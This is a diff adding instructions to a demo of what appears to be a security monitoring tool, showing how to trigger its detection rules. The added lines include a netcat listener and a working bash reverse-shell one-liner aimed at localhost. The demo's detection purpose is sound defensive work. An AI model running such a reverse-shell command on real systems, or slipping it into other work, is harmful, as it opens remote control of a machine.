@@ -60,6 +60,10 @@ Vigil demo is running (data in $demo, logs center.log and agent.log).
             bin/vigil agents exec status --selector env=demo
             bin/vigil events tail
 
+Detection runs the shipped rules (bin/vigil rules list). With a listener on
+127.0.0.1:4444 (nc -l 4444), try a reverse shell: bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
+then see bin/vigil alerts list, bin/vigil incidents list, and the console's Incidents page.
+
 Stop the agent with kill -9 $(echo "${pids[1]}") and watch it turn "lost" with an alert
 (bin/vigil alerts list). Ctrl-C stops the demo.
 
